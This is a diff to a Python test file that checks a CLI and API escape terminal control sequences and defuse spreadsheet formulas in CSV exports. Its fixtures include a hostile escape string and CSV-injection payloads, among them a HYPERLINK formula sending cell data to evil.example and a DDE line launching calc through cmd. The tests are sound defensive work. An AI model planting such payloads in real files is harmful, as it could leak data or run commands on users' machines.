@@ -1,14 +1,18 @@
-"""What Reach prints never acts on the reader's terminal (issue 12, Output).
+"""What Reach prints or writes never acts on the reader's terminal or spreadsheet (issue 12, Output).
 
 Names, failure reasons and callback fields come from customers' files and from anyone holding the webhook
 token. The CLI shows their control characters as visible text (`\\x1b`), so an escape sequence cannot
-retitle the terminal, clear it or forge lines; JSON output escapes them by itself.
+retitle the terminal, clear it or forge lines; JSON output escapes them by itself. Every CSV Reach writes
+prefixes a cell that a spreadsheet would run as a formula with `'` (OWASP, CSV injection).
 """
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from datetime import UTC, datetime
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -17,6 +21,7 @@ from click.testing import CliRunner
 from reach_cli.main import cli
 from shared.inbox import DeadLetter, InboxItem
 from shared.models import Contact, ContactStatus, Cycle, CycleState, Message, Schedule
+from tests.conftest import API_TOKEN
 
 #: Retitles an xterm, forges a line, rings the bell, clears the screen.
 HOSTILE = "\x1b]0;owned\x07Amina\r\nFAKE LINE\x1b[2J\x9b31m\u202eevil"
@@ -72,3 +77,42 @@ def test_json_output_keeps_the_values_as_they_are(hostile: dict[str, Any], comma
     assert result.exit_code == 0, result.output
     assert not {c for c in result.stdout if c in CONTROLS}  # json escapes them itself
     assert json.dumps(HOSTILE) in result.stdout  # the value itself, escaped the JSON way
+
+
+# -- CSV injection ------------------------------------------------------------------------------------------
+
+#: Cells a spreadsheet would evaluate, as a customer file might carry them in the phone column.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def written_cells(text: str) -> list[str]:
+    return [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+
+
+def test_the_cli_refused_file_defuses_formulas(session: Any, tmp_path: Path) -> None:
+    source = tmp_path / "contacts.csv"
+    with source.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["phone", "name"])
+        writer.writerows([formula, "x"] for formula in FORMULAS)
+    result = CliRunner().invoke(cli, ["contacts", "import", str(source)], catch_exceptions=False)
+    assert result.exit_code == 0, result.output
+    cells = written_cells((tmp_path / "contacts.refused.csv").read_text(encoding="utf-8"))
+    assert cells == ["'" + formula.replace("\r", "\n") for formula in FORMULAS]
+
+
+def test_the_apis_refused_file_defuses_formulas(client: Any, session: Any) -> None:
+    auth = {"Authorization": f"Bearer {API_TOKEN}"}
+    rows = [{"phone": formula} for formula in FORMULAS]
+    report = client.post("/api/contacts", json=rows, headers=auth).get_json()
+    assert report["refused_count"] == len(FORMULAS)
+    download = client.get(report["refused_url"], headers=auth)
+    assert download.status_code == 200, download.get_data(as_text=True)
+    assert written_cells(download.get_data(as_text=True)) == ["'" + formula for formula in FORMULAS]
